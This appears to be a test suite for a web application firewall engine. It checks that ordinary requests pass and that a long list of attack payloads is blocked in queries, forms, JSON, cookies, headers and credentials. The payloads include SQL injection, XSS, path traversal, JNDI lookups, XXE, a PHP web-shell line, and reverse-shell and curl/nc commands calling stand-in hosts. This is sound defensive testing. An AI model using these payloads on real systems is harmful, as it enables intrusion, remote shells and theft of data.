import { describe, expect, it } from 'vitest';
import { hasCorpus, readCorpus, bodyOf, headOf, partOf } from '../../test/engine/corpus.ts';
import { differences, hasLuajit } from '../../test/engine/differential.ts';
import { generate, SETUP } from '../../test/engine/generator.ts';
import { TestHost } from '../../test/engine/host.ts';
import { ORDINARY } from '../../test/engine/ordinary.ts';
import type { RequestHead, Verdict } from './engine.ts';
import { compileKeyring, compilePolicy, decideBody, decideHead, explain } from './engine.ts';

const gateway = { trusted_proxies: [], keyring: compileKeyring([]) };
const policy = compilePolicy({ id: 't' }, { id: 'r' });
const judge = (head: RequestHead, body: string): Verdict => {
  const host = new TestHost();
  const decision = decideHead(host, gateway, policy, head);
  return decision.verdict ?? decideBody(host, gateway, policy, head, decision, body);
};
const wire = (text: string) => Buffer.from(text, 'utf8').toString('latin1');
const chrome = {
  'user-agent':
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36',
  accept: 'text/html',
  'accept-language': 'en',
  'accept-encoding': 'gzip',
};
const send = (target: string, extra: Record<string, string> = {}, body = ''): Verdict =>
  judge(
    {
      method: body === '' ? 'GET' : 'POST',
      target: wire(target),
      host: 'a',
      scheme: 'http',
      remote_ip: '192.0.2.1',
      headers: Object.entries({ ...chrome, ...extra }).map(([name, value]) => ({ name, value: wire(value) })),
    },
    wire(body),
  );

describe('ordinary requests', () => {
  it.each(ORDINARY.map((each) => [JSON.stringify(each).slice(0, 90), each] as const))(
    '%s passes',
    (_name, each) => {
      const extra = {
        ...each.headers,
        ...(each.type ? { 'content-type': each.type, 'content-length': '1' } : {}),
        ...(each.cookie ? { cookie: each.cookie } : {}),
      };
      const verdict = send(each.target ?? '/page', extra, each.body ?? '');
      expect(verdict.decided, explain(verdict)).toBe('pass');
    },
  );
});

const attacks: [string, string][] = [
  ['a tautology', "x' or 'a'='a"],
  ['a tautology in backticks', 'x` or `2`=`2'],
  ['a path with a class in each name', '/b[i]n/[i]d'],
  ['a tautology of numbers', '7 and 2=2'],
  ['a union', '-5 union all select null,version()'],
  ['a hidden union', '1/**/UnIoN/*x*/SeLeCt(1),2'],
  ['a delay', "1;waitfor delay '0:0:9'"],
  ['a login', "bob'-- "],
  ['a stacked statement', '5; drop table orders'],
  ['a subquery', '1-(select count(*) from users)'],
  ['script', '<script src=//x.example>'],
  ['an event', '"><b onmouseover=steal()>'],
  ['a script URL', 'javascript:fetch(1)'],
  ['an encoded URL', '<a href="jav&#x09;ascript:x()">'],
  ['svg', '<svg><animate onbegin=a() attributeName=x>'],
  ['a file', '../../../../etc/hostname'],
  ['a Windows file', '..\\..\\windows\\win.ini'],
  ['an encoded file', '%252e%252e%252f%252e%252e%252fetc%252fpasswd'],
  ['a wrapper', 'php://input'],
  ['a command', '8.8.8.8; uname -a'],
  ['a piped command', 'a | nc 10.0.0.1 99'],
  ['a quoted command', "x;w'h'oami"],
  ['a substitution', '$(curl http://evil.example)'],
  ['a device', 'bash -i >& /dev/tcp/1.2.3.4/5 0>&1'],
  ['a lookup', '${jndi:ldap://evil.example/a}'],
  ['a nested lookup', '${${lower:j}ndi:rmi://evil.example}'],
  ['a template', '{{9*9}}'],
  ['a template object', "{{''.__class__.__mro__}}"],
  ['a PHP object', 'O:8:"Exploit":1:{s:1:"a";}'],
  ['a prototype', '{"__proto__":{"admin":1}}'],
  ['an entity', '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hostname">]>'],
  ['metadata', 'http://169.254.169.254/latest/meta-data/'],
  ['LDAP', 'x)(|(uid=*))'],
  ['an operator', '{"user":{"$ne":null},"$where":"1"}'],
  ['a header', 'a\r\nSet-Cookie: b=c'],
  ['a union glued to its number', '.1union select 1,2'],
  ['a condition glued to its number', '1or 1=1'],
  ['a constant condition', '1 or not false'],
  ['a condition on a name', "1 and current_user='sa'"],
  ['a condition after a parenthesis', '[4]) or 3=3--'],
  ['a delete', '1; delete from accounts'],
  ['a row constructor', "1' union values row(1,2)-- "],
  ['SQL glued by comments', '7/**/and/**/7=7'],
  ['a comment after an operator', "x' collate nocase--"],
  ['characters by number', 'char(97)+char(98)'],
  ['blanks encoded once too often', "9'+or+8=8--+"],
  ['a bare program after a file', '/list.html|id|'],
  ['a bare program after an address', '192.0.2.9 | ps'],
  ['a program with an argument', ';ping x.example'],
  ['a program that reads a file', ';cat<notes.txt'],
  ['a brace expansion', '{cat,/srv/list}'],
  ['an empty variable in a name', 'who$@ami'],
  ['quotes in a name', "w'ho'ami"],
  ['a caret in a name', 'who^ami'],
  ['an assigned name', ';a=who;b=ami;$a$b'],
  ['ANSI-C quotes', "$'\\x69\\x64'"],
  ['a cmdlet', ';Get-Content C:\\list.txt'],
  ['a Windows account', '& net user guest x /add'],
  ['a location', "location='//x.example'"],
  ['a split scheme', 'java\tscript:x'],
  ['a repository', '/.git/config'],
  ['a repeated text', "{{'a'*10}}"],
  ['a .NET stream', 'AAEAAAD/////AQAAAAAAAAAMAgAAAE'],
  ['a pickle', "cos\nsystem\n(S'id'\ntR."],
  ['a Ruby object', '!ruby/object:Gem::Installer'],
  ['a call behind a comment', 'exec/*x*/(1)'],
  ['a response', 'x\n\nHTTP/1.1 200 OK'],
  ['a cell', "=cmd|'/c calc'!A1"],
  ['an escaped quote', '0\\"xor(if(1=1,sleep(5),0))xor\\"z'],
  ['a broken identifier', '`) where 4=4 union all select 1,2#'],
  ['two comparisons of literals', ') as x where 4=4 and 9=8#'],
  ['a log', '/opt/web/logs/error_log'],
  ['settings', 'C:\\web\\php\\php.ini'],
  ['a script called a picture', '/up/do.php#.png'],
  ['a delay by a command', 'x; sleep 5'],
  ['a firewall', '& netsh firewall set opmode disable'],
  ['a program and its address', 'wget https://x.example/a.txt'],
  ['a closed tag', '"><marquee>x'],
  ['an alias', '1;a=eval;b=alert;a(b(1))'],
  ['letters in octal', "('\\141\\154\\145\\162\\164')()"],
  ['a lookup behind backslashes', '$\\{$\\{::-j\\}$\\{::-n\\}di:rmi://x}'],
  ['a method of a text', "{{'a'.toUpperCase()}}"],
  ["an object of a template's", '${request.getAttribute("a")}'],
  ['a comparison that comments out the rest', '? or 5=5 --'],
  ['a backup to elsewhere', "backup database shop to disk = '\\\\x\\y'"],
  ['a provider', "openrowset(bulk 'C:\\x', single_clob)"],
  ['a setting', 'select @@lang'],
  ['slashes whose percent sign is gone', '..2f..2fetc2fhosts'],
  ['an axis', 'count(/child::node())'],
  ['a filter over two lines', 'x)(\n|(uid=*)'],
  ['an event of no browser', '<x onanything=1'],
  ['UTF-7', '<?xml version="1.0" encoding="UTF-7"?>'],
];

describe('attacks', () => {
  it.each(attacks)('%s is blocked in a query, a form, JSON, a cookie and a header', (_name, text) => {
    const form = { 'content-type': 'application/x-www-form-urlencoded', 'content-length': '1' };
    const json = { 'content-type': 'application/json', 'content-length': '1' };
    const places: Record<string, Verdict> = {
      query: send(`/a?q=${encodeURIComponent(text)}`),
      form: send('/a', form, `q=${encodeURIComponent(text)}`),
      json: send('/a', json, JSON.stringify({ a: { q: [text] } })),
      cookie: send('/a', { cookie: `q=${encodeURIComponent(text)}` }),
      header: send('/a', { 'x-q': text }),
      base64: send(`/a?q=${Buffer.from(text).toString('base64url')}`),
    };
    for (const [place, verdict] of Object.entries(places))
      expect(verdict.decided, `${place}: ${explain(verdict)}`).toBe('block');
  });
});

describe('what stands where nothing is expected', () => {
  const blocked = (verdict: Verdict) => expect(verdict.decided, explain(verdict)).toBe('block');
  it('a parameter whose name is half of a tag', () => blocked(send('/?<a%20href=//x%20onfocus%0c=x()>')));
  it('a condition whose first half is a name', () => blocked(send("/?a'%20and%20'1'='1")));
  it('a user agent that is no product', () => {
    blocked(send('/', { 'user-agent': 'prompt(1)' }));
    blocked(send('/', { 'user-agent': 'C:/WINDOWS/win.ini' }));
  });
  it('words with signs of no width in them', () =>
    blocked(send("/?a=7'%20un%e2%80%8bion%20sel%e2%80%8bect%201,2")));
  it('a comparison in the middle of a list', () => blocked(send('/?a=9=9,13)')));
  it('an event with a NUL in its name', () => blocked(send('/?a=%3Csvg%0ao%00nload=%09((x))()//')));
  it('a condition in a referer', () => blocked(send('/', { referer: "https://x.example/?q=1' or 1=1-- " })));
  it('a call in a cookie', () => blocked(send('/', { cookie: 'a=prompt(1)' })));
  it('overlong dots and slashes', () => {
    blocked(send('/?f=%c0%2e%c0%2e%c0%2f%c0%2e%c0%2e%c0%2fetc'));
    blocked(send('/?f=%e0%80%ae%e0%80%ae%e0%80%af%e0%80%ae%e0%80%ae%e0%80%afetc'));
    blocked(send('/?f=%uff0e%uff0e%u2215%uff0e%uff0e%u2216etc'));
  });
  it('a text inside of a binary body', () =>
    blocked(
      send(
        '/',
        { 'content-type': 'application/x-protobuf', 'content-length': '1' },
        "\x0a\x00\x01\x16x' union select 1,2-- \x00\x00\x10\x01",
      ),
    ));
  it('a session in a link of another site', () =>
    blocked(send('/login?sessionid=5', { referer: 'https://x.example/' })));
  it('a header after a first line', () => blocked(send('/?a=b%0d%0aX-Injected:%201')));
});

describe('what servers read otherwise than a request says', () => {
  const attack = "id=1' union select password from users--";
  const json = '{"id":"1\' union select password from users--"}';
  const xxe = '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>';
  const part = (headers: string, content: string) => `--b\r\n${headers}\r\n\r\n${content}\r\n`;
  const field = 'Content-Disposition: form-data; name="a"';
  const multi = 'multipart/form-data; boundary=b';
  const rows: [name: string, type: string, body: string][] = [
    ['a form that is called multipart', 'multipart/form-data; boundary=zz', attack],
    ['JSON that is called multipart', 'multipart/form-data; boundary=zz', json],
    ['XML that is called multipart', 'multipart/form-data; boundary=zz', xxe],
    [
      'a type that names multipart in a parameter',
      'application/x-www-form-urlencoded; x="multipart/"; boundary=zz',
      attack,
    ],
    [
      'one of two boundaries',
      'multipart/form-data; boundary=zz; boundary=b',
      part(field, "x' or 'a'='a") + '--b--',
    ],
    [
      'a boundary of another name',
      'multipart/form-data; x-boundary=zz; boundary=b',
      part(field, "x' or 'a'='a") + '--b--',
    ],
    [
      'a part behind many',
      multi,
      part(field, '').repeat(4_010) + part(field, "1' union select 1,2 from users--") + '--b--',
    ],
    [
      'a field whose type names a file',
      multi,
      part(`${field}\r\nContent-Type: text/plain; filename=a`, "x' or 'a'='a") + '--b--',
    ],
    ['what stands before the first part', multi, `${attack}\r\n${part(field, 'x')}--b--`],
    ['a header of a part', multi, part(`${field}\r\nX-A: \${jndi:ldap://x.example/a}`, 'x') + '--b--'],
    [
      'a second name of a file',
      multi,
      part('Content-Disposition: form-data; name=f; filename="a.jpg"; filename="shell.php"', 'x') + '--b--',
    ],
    [
      'a file name with a blank',
      multi,
      part('Content-Disposition: form-data; name=f; filename ="shell.php"', 'x') + '--b--',
    ],
    [
      'a page deep in a file',
      multi,
      part(
        'Content-Disposition: form-data; name=f; filename=a.jpg',
        `${'x'.repeat(6_000)}<?php system($_GET[1]);?>`,
      ) + '--b--',
    ],
    [
      'an entity in a picture',
      multi,
      part('Content-Disposition: form-data; name=f; filename=a.svg', `<?xml version="1.0"?>${xxe}`) + '--b--',
    ],
    [
      'an entity behind a long remark',
      'application/xml',
      `<?xml version="1.0"?><!--${'A'.repeat(5_000)}-->${xxe}`,
    ],
    ['an instruction in XML', 'application/xml', '<?xml version="1.0"?><a><?php system($_GET[1]); ?></a>'],
    [
      'a text that a remark parts',
      'application/xml',
      "<a>1' union sel<!-- x -->ect password from users--</a>",
    ],
    ['JSON with a tab before its colon', 'application/json', '{"a"\t:"x\' or \'a\'=\'a"}'],
    [
      'JSON behind line ends',
      'application/json',
      '\r\n\ufeff {"a":"x\' or \'a\'=\'a"}'.replace('\ufeff', ''),
    ],
    ['JSON behind a byte order mark', 'application/json', '\ufeff{"a":";id"}'],
    [
      'JSON behind many values',
      'application/json',
      JSON.stringify([...Array<number>(2_100).fill(0).map(String), "1' union select a from users--"]),
    ],
    ['a form that opens as JSON', 'application/x-www-form-urlencoded', `{&${attack}`],
    [
      'a field behind many',
      'application/x-www-form-urlencoded',
      `${'a=1&'.repeat(900)}url=http://169.254.169.254/`,
    ],
  ];
  it.each(rows)('hides nothing: %s', (_, type, body) => {
    const verdict = send('/', { 'content-type': type, 'content-length': '9' }, body);
    expect(verdict.decided, explain(verdict)).toBe('block');
  });

  it.each([
    [
      'a form of many fields',
      Array.from({ length: 260 }, (_, i) => part(`${field.replace('a"', `f${i}"`)}`, 'some text')).join(''),
    ],
    [
      'a drawing',
      part(
        'Content-Disposition: form-data; name=f; filename=a.svg',
        '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [\n<!ENTITY ns_svg "http://www.w3.org/2000/svg">\n]>\n<svg xmlns="&ns_svg;"><rect width="3"/></svg>',
      ),
    ],
    [
      'a build file',
      part(
        'Content-Disposition: form-data; name=f; filename=pom.xml',
        '<?xml version="1.0"?><project xmlns="http://maven.apache.org/POM/4.0.0" xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 http://maven.apache.org/xsd/maven-4.0.0.xsd"><groupId>a</groupId></project>',
      ),
    ],
  ])('is none where it is ordinary: %s', (_, parts) => {
    const verdict = send('/', { 'content-type': multi, 'content-length': '9' }, `${parts}--b--\r\n`);
    expect(verdict.decided, explain(verdict)).toBe('pass');
  });

  const headers: [name: string, value: string][] = [
    ['x-forwarded-for', "1.2.3.4' or '1'='1"],
    ['x-forwarded-for', '${jndi:ldap://x.example/a}'],
    ['content-type', "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}"],
    ['accept', '${jndi:ldap://x.example/a}'],
    ['accept-language', '../../../../etc/passwd'],
    ['if-none-match', '() { :; }; /bin/cat /etc/passwd'],
    ['origin', 'https://x.example/<script>alert(1)</script>'],
    ['sec-ch-ua-platform', "x' union select 1,2 from users--"],
    ['cache-control', '${jndi:ldap://x.example/a}'],
  ];
  it.each(headers)('an attack in %s is one: %s', (name, value) => {
    const verdict = send('/', { [name]: value });
    expect(verdict.decided, explain(verdict)).not.toBe('pass');
  });

  const structured =
    'accept accept-encoding accept-language authorization cache-control connection content-type date dnt forwarded from host ' +
    'if-match if-modified-since if-none-match if-range if-unmodified-since keep-alive origin pragma priority range referer ' +
    'sec-ch-ua sec-ch-ua-mobile sec-ch-ua-platform sec-fetch-dest sec-fetch-mode sec-fetch-site sec-fetch-user sec-gpc te ' +
    'true-client-ip upgrade-insecure-requests user-agent via x-api-version x-forwarded-for x-forwarded-host x-real-ip';
  const payloads = [
    '${jndi:ldap://x.example/a}',
    "1' union select password from users--",
    '<script>alert(1)</script>',
    '() { :; }; /bin/bash -c "cat /etc/passwd"',
    "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id').(@java.lang.Runtime@getRuntime().exec(#cmd))}",
  ];
  it.each(structured.split(' '))('no attack passes in %s, alone or behind what belongs there', (name) => {
    for (const payload of payloads) {
      for (const value of [payload, `${(chrome as Record<string, string>)[name] ?? 'x'}, ${payload}`]) {
        const verdict = send('/', { [name]: value });
        expect(verdict.decided, `${value}: ${explain(verdict)}`).not.toBe('pass');
      }
    }
  });

  const base64 = (text: string) => Buffer.from(text).toString('base64url');
  const token = (head: object, claims: object) =>
    `Bearer ${base64(JSON.stringify(head))}.${base64(JSON.stringify(claims))}.c2lnbmF0dXJl`;
  it.each([
    ['a name', `Basic ${btoa("admin' or '1'='1:x")}`],
    ['a password', `basic ${btoa('admin:${jndi:ldap://x.example/a}')}`],
    ['what names the key of a token', token({ alg: 'HS256', kid: "x' union select 'a'-- " }, { sub: '1' })],
    ['the path of a key', token({ alg: 'HS256', kid: '../../../../etc/passwd' }, { sub: '1' })],
    ['a claim', token({ alg: 'none' }, { sub: '${jndi:ldap://x.example/a}' })],
  ])('no attack passes in %s that credentials encode', (_, authorization) => {
    for (let i = 0; i < 2; i++) expect(send('/', { authorization }).decided).toBe('block');
  });
  it.each([
    ['a name and a password', `Basic ${btoa("shop@example.org:pa$$word'9!")}`],
    [
      'claims',
      token(
        { alg: 'RS256', typ: 'JWT', kid: 'key-1/2024' },
        {
          iss: 'http://keycloak.internal:8080/realms/shop',
          aud: ['account', 'https://api.example.com/'],
          sub: 'auth0|5f7c8ec7c33c6c004bbafe82',
          name: "Siobhán O'Brien (sales)",
          scope: 'openid profile email',
          exp: 1700000000,
          realm_access: { roles: ['offline_access', 'default-roles-shop'] },
        },
      ),
    ],
  ])('ordinary credentials pass: %s', (_, authorization) => {
    for (let i = 0; i < 2; i++) expect(explain(send('/', { authorization }))).toContain('pass');
  });

  it.each([
    ['user-agent', 'sqlmap/1.7'],
    ['referer', 'https://x.example/?q=1%27%20union%20select%201,2%20from%20users--'],
    ['user-agent', '${jndi:ldap://x.example/a}'],
    ['referer', "https://x.example/?q=1' union select 1,2 from users--"],
  ])('a second %s hides no first: %s', (name, value) => {
    const usual = Object.entries(chrome).map(([each, text]) => ({ name: each, value: text }));
    for (const order of [(list: object[]) => list, (list: object[]) => [...list].reverse()]) {
      const list = order([
        ...usual,
        { name: 'referer', value: 'https://a/' },
        { name, value },
      ]) as typeof usual;
      const verdict = judge(
        { method: 'GET', target: '/', host: 'a', scheme: 'http', remote_ip: '192.0.2.1', headers: list },
        '',
      );
      expect(verdict.decided, explain(verdict)).not.toBe('pass');
    }
  });

  it.each(['user-agent', 'referer', 'content-type', 'host', 'authorization'])(
    'a second %s is told of, and does nothing alone',
    (name) => {
      const first = { 'user-agent': chrome['user-agent'], referer: 'https://a/', host: 'a' };
      const value = (first as Record<string, string>)[name] ?? 'text/plain';
      const list = Object.entries({ ...chrome, [name]: value }).map(([each, text]) => ({
        name: each,
        value: text,
      }));
      const headers = [...list, { name, value }];
      const verdict = judge(
        { method: 'GET', target: '/', host: 'a', scheme: 'http', remote_ip: '192.0.2.1', headers },
        '',
      );
      expect([verdict.decided, explain(verdict)]).toEqual([
        'pass',
        expect.stringContaining('repeated_header'),
      ]);
    },
  );

  it('a body that no header tells of is waited for', () => {
    const head = { method: 'POST', target: '/', host: 'a', scheme: 'http', remote_ip: '192.0.2.1' } as const;
    const list = Object.entries(chrome).map(([name, value]) => ({ name, value }));
    const form = { name: 'content-type', value: 'application/x-www-form-urlencoded' };
    expect(judge({ ...head, headers: [...list, form], unannounced_body: true }, attack).decided).toBe(
      'block',
    );
  });

  it('a link of the same site on another port brings no session of another', () => {
    const extra = { referer: 'http://a:9080/shop/' };
    expect(send('/login?sessionid=5', extra).decided).toBe('pass');
    expect(send('/login?sessionid=5', { referer: 'http://b:9080?x=/' }).decided).toBe('block');
  });
});

describe('a body of more odd values than are looked at one by one', () => {
  const json = { 'content-type': 'application/json', 'content-length': '1' };
  const odd = Array.from({ length: 1_900 }, (_, i) => `a'b &#39; \\u0041 (c) <d e${i}> ; f%2527`);
  const points = ({ signals }: Verdict) => signals.map(({ id }) => id);

  it('passes by itself, and counts as evasion', () => {
    const verdict = send('/', json, JSON.stringify(odd));
    expect(points(verdict)).toContain('many_suspects');
    expect(verdict.decided, explain(verdict)).toBe('pass');
    expect(points(send('/', json, JSON.stringify(odd.slice(0, 150))))).not.toContain('many_suspects');
  });
  it('hides no attack among the first, and not every one behind them', () => {
    const first = send('/', json, JSON.stringify(["1' union select password from users--", ...odd]));
    expect(first.decided).toBe('block');
    const last = send('/', json, JSON.stringify([...odd, '${jndi:ldap://x.example/a}']));
    expect(last.decided).toBe('block');
  });
  it('costs a fraction of what looking at each would', () => {
    const cost = (values: readonly string[]): number => {
      const from = process.cpuUsage();
      send('/', json, JSON.stringify(values));
      const { user, system } = process.cpuUsage(from);
      return user + system;
    };
    const few = odd.slice(0, 200);
    cost(odd);
    // Ten times as many; only some 130 texts of three layers are looked at in either.
    const ratios = Array.from({ length: 5 }, () => cost(odd) / cost(few)).sort((a, b) => a - b);
    expect(ratios[0]).toBeLessThan(5);
  });
});

describe.skipIf(!hasCorpus())('the request data', () => {
  const rate = (name: 'attacks' | 'legit', part?: number): number => {
    const samples = readCorpus(name).filter((sample) => part === undefined || partOf(sample) === part);
    return (
      samples.filter((sample) => judge(headOf(sample), bodyOf(sample)).decided !== 'pass').length /
      samples.length
    );
  };
  it('at least 85 % of the attacks are acted on', () => expect(rate('attacks')).toBeGreaterThanOrEqual(0.85));
  it('at most 0.2 % of the legitimate requests are', () => expect(rate('legit')).toBeLessThanOrEqual(0.002));
  it('at least 80 % of the attacks that no rule was written by', () =>
    expect(rate('attacks', 2)).toBeGreaterThanOrEqual(0.8));
});

describe.skipIf(!hasLuajit())('the Lua engine', () => {
  it('decides as the JavaScript engine does', { timeout: 60_000 }, () => {
    expect(differences(SETUP, generate(3000, 42))).toEqual([]);
  });
});
